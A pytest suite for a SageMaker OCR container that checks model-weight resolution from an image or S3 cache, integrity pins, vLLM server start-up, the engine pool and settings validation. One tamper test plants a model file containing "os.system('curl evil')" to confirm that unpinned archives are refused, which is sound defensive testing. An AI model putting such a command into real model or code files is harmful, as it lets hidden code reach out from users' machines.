"""Engine wiring: weights from the image or the S3 model cache, the supervised VLM
server, the engine pool, warm-up and settings — everything short of the GPU."""

from __future__ import annotations

import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import boto3
import numpy as np
import pytest
from moto import mock_aws

import idp.document.ocr.models.cache as cache_module
from idp.contract import names
from idp.contract.errors import EngineFailure, ModelUnavailable
from idp.contract.results import Block, EngineInfo, Line
from idp.document.decode import PageImage
from idp.document.ocr.engine import OcrEngine, PageContent
from idp.document.ocr.models.archives import pack_model_dir, sha256_file, tree_sha256
from idp.document.ocr.models.cache import ModelCache
from idp.document.ocr.models.manifest import ModelManifest, ModelPin
from sagemaker_container.engines import (
    EngineBusy,
    EnginePool,
    LoadedEngines,
    build_engines,
    build_paddleocr_vl_engines,
    warm_up,
)
from sagemaker_container.paddleocr_vl import VlEngineConfig, pipeline_models
from sagemaker_container.settings import ServerSettings, SettingsError
from sagemaker_container.weights import resolve_vl_weights

CACHE_BUCKET = "vl-model-cache"


class EchoEngine:
    """A stand-in engine that reports which thread ran it (engine plumbing tests only)."""

    def __init__(self, text: str = "hello") -> None:
        self.text = text
        self.threads: set[str] = set()
        self.info = EngineInfo(name="echo", version="0", models=["echo"])

    def recognize(self, page: PageImage) -> PageContent:
        self.threads.add(threading.current_thread().name)
        box = ((0.0, 0.0), (1.0, 0.0), (1.0, 1.0), (0.0, 1.0))
        lines = [Line(text=self.text, box=box, confidence=0.9)] if self.text else []
        return PageContent(lines=lines)


def fake_model_dir(root: Path, name: str, *, vlm: bool) -> Path:
    path = root / name
    path.mkdir(parents=True)
    if vlm:
        (path / "config.json").write_text(
            '{"architectures": ["PaddleOCRVLForConditionalGeneration"]}'
        )
        (path / "model.safetensors").write_bytes(b"\0" * 16)
    else:
        (path / "inference.yml").write_text(f"Global:\n  model_name: {name}\n")
        (path / "inference.json").write_text("{}")
        (path / "inference.pdiparams").write_bytes(b"\0" * 16)
    return path


@pytest.fixture
def baked_models(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Both VL models baked into the image, and the repository's manifest pinning their files
    (the real manifest pins no VL model yet)."""
    root = tmp_path / "baked"
    fake_model_dir(root, "PP-DocLayoutV3", vlm=False)
    fake_model_dir(root, "PaddleOCR-VL-1.6-0.9B", vlm=True)
    _pin_baked(monkeypatch, root)
    return root


def _pin_baked(monkeypatch: pytest.MonkeyPatch, root: Path) -> None:
    pins = [
        ModelPin(path.name, "test: baked", None, tree_sha256=tree_sha256(path))
        for path in root.iterdir()
    ]
    monkeypatch.setattr(cache_module, "default_manifest", lambda: ModelManifest(pins))


@pytest.fixture
def s3() -> Iterator[Any]:
    with mock_aws():
        client = boto3.client("s3", region_name="us-east-1")
        client.create_bucket(Bucket=CACHE_BUCKET)
        yield client


def settings_for(tmp_path: Path, **env: str) -> ServerSettings:
    return ServerSettings.from_env({"TMPDIR": str(tmp_path), **env})


def test_weights_come_from_the_s3_model_cache_when_not_baked(
    tmp_path: Path, s3: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    # GIVEN both VL models imported into the S3 model cache and nothing baked in the image
    monkeypatch.setenv("TMPDIR", str(tmp_path))
    manifest = _import_vl_models(s3, tmp_path)
    settings = settings_for(
        tmp_path, VL_MODELS_DIR=str(tmp_path / "nothing"), MODEL_CACHE_BUCKET=CACHE_BUCKET
    )
    cache = ModelCache(s3=s3, bucket=CACHE_BUCKET, local_root=tmp_path / "cache", manifest=manifest)
    # WHEN the container resolves its weights at start-up
    weights = resolve_vl_weights(pipeline_models("v1.6"), cache=cache, settings=settings)
    # THEN both are unpacked locally from the cache
    assert (weights.layout_dir / "inference.pdiparams").is_file()
    assert (weights.vlm_dir / "config.json").is_file()
    assert weights.vlm_dir.name == "PaddleOCR-VL-1.6-0.9B"


def _import_vl_models(s3: Any, tmp_path: Path) -> ModelManifest:
    """Both VL models imported into the S3 model cache, and a manifest pinning them."""
    uploader = ModelCache(s3=s3, bucket=CACHE_BUCKET, local_root=tmp_path / "unused")
    return ModelManifest(
        ModelPin(
            name,
            "test",
            uploader.import_dir(name, fake_model_dir(tmp_path / "staging", name, vlm=vlm)).sha256,
        )
        for name, vlm in (("PP-DocLayoutV3", False), ("PaddleOCR-VL-1.6-0.9B", True))
    )


def test_a_replaced_vl_archive_stops_start_up_naming_the_model(
    tmp_path: Path, s3: Any, monkeypatch: pytest.MonkeyPatch
) -> None:
    # GIVEN the pinned VL model's archive replaced in the cache (by code that would run in the
    # vLLM server with --trust-remote-code)
    monkeypatch.setenv("TMPDIR", str(tmp_path))
    manifest = _import_vl_models(s3, tmp_path)
    planted = fake_model_dir(tmp_path / "planted", "PaddleOCR-VL-1.6-0.9B", vlm=True)
    (planted / "modeling_paddleocr_vl.py").write_text("import os; os.system('curl evil')\n")
    ModelCache(s3=s3, bucket=CACHE_BUCKET, local_root=tmp_path / "x").import_dir(
        "PaddleOCR-VL-1.6-0.9B", planted
    )
    settings = settings_for(tmp_path, VL_MODELS_DIR=str(tmp_path / "nothing"))
    cache = ModelCache(s3=s3, bucket=CACHE_BUCKET, local_root=tmp_path / "cache", manifest=manifest)
    # WHEN the container resolves its weights THEN it refuses them, naming the model
    with pytest.raises(ModelUnavailable, match=r"PaddleOCR-VL-1\.6-0\.9B.*does not match its pin"):
        resolve_vl_weights(pipeline_models("v1.6"), cache=cache, settings=settings)
    assert not (tmp_path / "cache" / "PaddleOCR-VL-1.6-0.9B").exists()


def test_a_baked_vl_model_without_a_pin_stops_start_up_naming_it(tmp_path: Path) -> None:
    # GIVEN both models baked in, and the repository's manifest, which pins neither
    root = tmp_path / "baked"
    fake_model_dir(root, "PP-DocLayoutV3", vlm=False)
    fake_model_dir(root, "PaddleOCR-VL-1.6-0.9B", vlm=True)
    settings = settings_for(tmp_path, VL_MODELS_DIR=str(root))
    cache = ModelCache(local_root=tmp_path / "cache", search_roots=[root])
    # WHEN the weights are resolved THEN both are refused, each named
    with pytest.raises(ModelUnavailable) as raised:
        resolve_vl_weights(pipeline_models("v1.6"), cache=cache, settings=settings)
    assert "PaddleOCR-VL-1.6-0.9B has no pin of its files" in raised.value.message
    assert "PP-DocLayoutV3 has no pin of its files" in raised.value.message


def test_a_tampered_file_in_a_baked_vl_model_stops_start_up_naming_it(
    tmp_path: Path, baked_models: Path
) -> None:
    (baked_models / "PaddleOCR-VL-1.6-0.9B" / "modeling_paddleocr_vl.py").write_text("planted\n")
    settings = settings_for(tmp_path, VL_MODELS_DIR=str(baked_models))
    cache = ModelCache(
        s3=None, bucket=None, local_root=tmp_path / "cache", search_roots=[baked_models]
    )
    with pytest.raises(ModelUnavailable, match=r"PaddleOCR-VL-1\.6-0\.9B: the directory in"):
        resolve_vl_weights(pipeline_models("v1.6"), cache=cache, settings=settings)


def test_missing_weights_name_every_missing_model(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # GIVEN only the layout model baked in (and pinned)
    root = tmp_path / "baked"
    fake_model_dir(root, "PP-DocLayoutV3", vlm=False)
    _pin_baked(monkeypatch, root)
    settings = settings_for(tmp_path, VL_MODELS_DIR=str(root))
    cache = ModelCache(local_root=tmp_path / "cache", search_roots=[root])
    # WHEN the weights are resolved THEN the error names the missing VLM, and not the other
    with pytest.raises(ModelUnavailable) as raised:
        resolve_vl_weights(pipeline_models("v1.6"), cache=cache, settings=settings)
    message = raised.value.message
    assert "weights missing: PaddleOCR-VL-1.6-0.9B." in message
    assert "ALLOW_HUB_DOWNLOAD=false" in message


def test_vl_engines_start_the_vlm_server_on_the_weights_and_points_engines_at_it(
    tmp_path: Path, baked_models: Path, fake_vlm_command: tuple[str, ...], free_port: int
) -> None:
    # GIVEN baked weights and a (FAKE) vLLM command
    settings = settings_for(
        tmp_path,
        VL_MODELS_DIR=str(baked_models),
        VL_SERVER_COMMAND=" ".join(fake_vlm_command),
        VL_SERVER_PORT=str(free_port),
        VL_ENGINE_INSTANCES="2",
        VL_REGION_CONCURRENCY="32",
    )
    configs: list[VlEngineConfig] = []
    phases: list[str] = []

    def engine_factory(config: VlEngineConfig) -> OcrEngine:
        configs.append(config)
        return EchoEngine()

    # WHEN the PaddleOCR-VL engines are built
    engines = build_paddleocr_vl_engines(
        settings, s3=None, report=phases.append, engine_factory=engine_factory
    )
    try:
        # THEN the VLM server runs on the baked VLM dir and every engine instance uses it
        assert engines.supervisor is not None
        assert engines.supervisor.ready
        assert engines.healthy
        spec = engines.supervisor.spec
        assert spec.model_dir == baked_models / "PaddleOCR-VL-1.6-0.9B"
        assert spec.served_model_name == "PaddleOCR-VL-1.6-0.9B"
        assert len(configs) == 2
        assert engines.pool.size == 2
        assert {c.server_url for c in configs} == {f"http://127.0.0.1:{free_port}/v1"}
        assert configs[0].layout_model_dir == baked_models / "PP-DocLayoutV3"
        assert configs[0].region_concurrency == 32
        assert phases == ["resolving-weights", "starting-vlm-server", "building-engine"]
    finally:
        engines.close()
    # AND closing the engines stops the server
    assert not engines.supervisor.ready


def test_an_external_vlm_server_url_starts_nothing(tmp_path: Path, baked_models: Path) -> None:
    settings = settings_for(
        tmp_path,
        VL_MODELS_DIR=str(baked_models),
        VL_SERVER_URL="http://vlm.internal:8000/v1",
    )
    configs: list[VlEngineConfig] = []

    def engine_factory(config: VlEngineConfig) -> OcrEngine:
        configs.append(config)
        return EchoEngine()

    engines = build_paddleocr_vl_engines(
        settings, s3=None, report=lambda phase: None, engine_factory=engine_factory
    )
    assert engines.supervisor is None
    assert configs[0].server_url == "http://vlm.internal:8000/v1"
    engines.close()


def test_engines_run_on_their_own_thread_whatever_thread_calls(tmp_path: Path) -> None:
    # GIVEN the substitute engines built with a stand-in engine
    built: list[EchoEngine] = []

    def factory(settings: ServerSettings) -> OcrEngine:
        built.append(EchoEngine())
        return built[-1]

    settings = settings_for(tmp_path, VL_ENGINE="substitute-ppocrv5")
    engines = build_engines(settings, s3=None, report=lambda p: None, substitute_factory=factory)
    page = PageImage(page=1, pixels=np.zeros((4, 4, 3), dtype=np.uint8))
    # WHEN pages are recognized from several different threads
    engine = engines.pool.engines[0]
    callers = [threading.Thread(target=engine.recognize, args=(page,)) for _ in range(3)]
    for thread in callers:
        thread.start()
    for thread in callers:
        thread.join()
    # THEN the engine only ever ran on its one pinned thread, and says it is a substitute
    assert len(built[0].threads) == 1
    assert next(iter(built[0].threads)).startswith("engine-0")
    assert engines.info.name == "substitute:PP-OCRv5"
    assert engines.info.substitute is True
    engines.close()


class TextDetectorEngine(EchoEngine):
    """A stand-in text-line engine whose detector sees at most 1,280 px: as PP-OCRv5's, it is
    given a tall page tile by tile."""

    detector_side = 1280

    def __init__(self) -> None:
        super().__init__()
        self.heights: list[int] = []

    def recognize(self, page: PageImage) -> PageContent:
        self.heights.append(page.height)
        return super().recognize(page)


def test_the_substitute_reads_a_tall_page_in_tiles_as_the_processor_does(tmp_path: Path) -> None:
    # GIVEN the substitute engine over a stand-in text-line engine
    inner = TextDetectorEngine()
    settings = settings_for(tmp_path, VL_ENGINE="substitute-ppocrv5")
    engines = build_engines(
        settings, s3=None, report=lambda p: None, substitute_factory=lambda _: inner
    )
    # WHEN a receipt 4,000 px tall is recognized
    page = PageImage(page=1, pixels=np.zeros((4000, 600, 3), dtype=np.uint8))
    content = engines.pool.engines[0].recognize(page)
    # THEN the inner engine was given its tiles, as the processor's page path gives them
    assert len(inner.heights) > 1
    assert max(inner.heights) == 1280
    assert content.detector_scale == 1.0
    engines.close()


def test_pool_hands_each_engine_to_one_request_at_a_time() -> None:
    # GIVEN a pool of one engine already leased
    pool = EnginePool([EchoEngine()])
    with pool.lease():
        # WHEN a second request asks for an engine THEN it waits, then gives up
        started = time.monotonic()
        with pytest.raises(EngineBusy), pool.lease(timeout_s=0.2):
            pass
        assert time.monotonic() - started >= 0.2
    # AND once returned, the engine can be leased again
    with pool.lease(timeout_s=0.2) as engine:
        assert engine.info.name == "echo"


def test_warm_up_fails_when_an_engine_recognizes_nothing() -> None:
    engines = LoadedEngines(pool=EnginePool([EchoEngine("hi"), EchoEngine(text="")]))
    with pytest.raises(EngineFailure, match="instance 1 recognized no text"):
        warm_up(engines)


def test_warm_up_accepts_text_the_layout_model_labels_a_header() -> None:
    # GIVEN a healthy engine that reads the warm-up strip but labels it page furniture: a
    # header block, no body line (PaddleOCR-VL's converter makes no line of a header)
    class HeaderOnly(EchoEngine):
        def recognize(self, page: PageImage) -> PageContent:
            box = ((0.0, 0.0), (1.0, 0.0), (1.0, 1.0), (0.0, 1.0))
            return PageContent(lines=[], blocks=[Block(type="header", box=box, text="Invoice")])

    engines = LoadedEngines(pool=EnginePool([HeaderOnly()]))

    # WHEN the server warms it up THEN it is ready: text was recognized, whatever its label
    timings = warm_up(engines)
    assert list(timings) == ["warmup_0_ms"]


def test_engine_instances_follow_the_concurrency_setting() -> None:
    settings = ServerSettings.from_env({"VL_MAX_CONCURRENT_REQUESTS": "6"})
    assert settings.engine_instances == 6


def test_settings_defaults_follow_the_sagemaker_contract() -> None:
    settings = ServerSettings.from_env({})
    assert settings.port == 8080
    assert settings.host == "0.0.0.0"
    assert settings.engine == "paddleocr-vl"
    assert settings.max_concurrent_requests == 4
    # one PaddleOCR-VL instance per concurrent invocation SageMaker sends
    assert settings.engine_instances == settings.max_concurrent_requests
    # this server's timeout fires before SageMaker's own, so its 504 carries the reason
    assert settings.request_timeout_s < names.VL_INVOCATION_TIMEOUT_SECONDS
    assert settings.vlm_server.command == ("vllm",)
    assert settings.allow_hub_download is False
    substitute = ServerSettings.from_env({"VL_ENGINE": "substitute-ppocrv5"})
    assert substitute.engine_instances == 1


@pytest.mark.parametrize(
    ("env", "message"),
    [
        ({"VL_ENGINE": "tesseract"}, "VL_ENGINE='tesseract'"),
        ({"VL_PORT": "http"}, "VL_PORT='http' is not an integer"),
        ({"VL_MAX_CONCURRENT_REQUESTS": "0"}, "must be at least 1"),
        ({"ALLOW_HUB_DOWNLOAD": "maybe"}, "not a boolean"),
        ({"VL_REQUEST_TIMEOUT_SECONDS": "-5"}, "must be positive"),
        ({"VL_REQUEST_TIMEOUT_SECONDS": "3600"}, "must be below the invocation timeout"),
    ],
)
def test_bad_settings_are_refused_with_the_variable_named(
    env: dict[str, str], message: str
) -> None:
    with pytest.raises(SettingsError, match=message.replace("(", r"\(")):
        ServerSettings.from_env(env)


def test_bake_weights_fills_the_image_folder_and_keeps_what_is_there(tmp_path: Path) -> None:
    from sagemaker_container.bake_weights import bake

    # GIVEN the layout model already copied from the build context, the VLM not
    dest = tmp_path / "vl-models"
    fake_model_dir(dest, "PP-DocLayoutV3", vlm=False)
    downloaded: list[str] = []

    hub_vlm = fake_model_dir(tmp_path / "hub", "PaddleOCR-VL-1.6-0.9B", vlm=True)
    archive = tmp_path / "vlm.tar.gz"
    pack_model_dir(hub_vlm, "PaddleOCR-VL-1.6-0.9B", archive)
    pinned = ModelManifest(
        [ModelPin("PaddleOCR-VL-1.6-0.9B", "hub", None, hub_sha256=sha256_file(archive))]
    )

    def hub_download(name: str) -> Path:
        downloaded.append(name)
        return hub_vlm

    # WHEN the build bakes the v1.6 pipeline's weights
    paths = bake(dest, pipeline_version="v1.6", hub_download=hub_download, manifest=pinned)
    # THEN only the missing VLM was downloaded, and both dirs are complete in the folder
    assert downloaded == ["PaddleOCR-VL-1.6-0.9B"]
    assert paths == [dest / "PP-DocLayoutV3", dest / "PaddleOCR-VL-1.6-0.9B"]
    assert (dest / "PaddleOCR-VL-1.6-0.9B" / "config.json").is_file()


def test_baking_takes_a_download_only_if_it_matches_its_hub_pin(tmp_path: Path) -> None:
    from sagemaker_container.bake_weights import bake

    # GIVEN the hub's downloads, and a manifest pinning the layout model's download only
    hub = {
        name: fake_model_dir(tmp_path / "hub", name, vlm=vlm)
        for name, vlm in (("PP-DocLayoutV3", False), ("PaddleOCR-VL-1.6-0.9B", True))
    }
    archive = tmp_path / "layout.tar.gz"
    pack_model_dir(hub["PP-DocLayoutV3"], "PP-DocLayoutV3", archive)
    manifest = ModelManifest(
        [
            ModelPin("PP-DocLayoutV3", "hub", None, hub_sha256=sha256_file(archive)),
            ModelPin("PaddleOCR-VL-1.6-0.9B", "hub", None, hub_sha256="0" * 64),
        ]
    )
    # WHEN the image's weights are baked THEN the build stops at the VLM, which differs
    with pytest.raises(SystemExit, match=r"PaddleOCR-VL-1\.6-0\.9B.*does not match its pin"):
        bake(
            tmp_path / "baked",
            pipeline_version="v1.6",
            hub_download=hub.__getitem__,
            manifest=manifest,
        )
    # ... after baking the layout model, which matched
    assert (tmp_path / "baked" / "PP-DocLayoutV3" / "inference.pdiparams").is_file()
    assert not (tmp_path / "baked" / "PaddleOCR-VL-1.6-0.9B").exists()
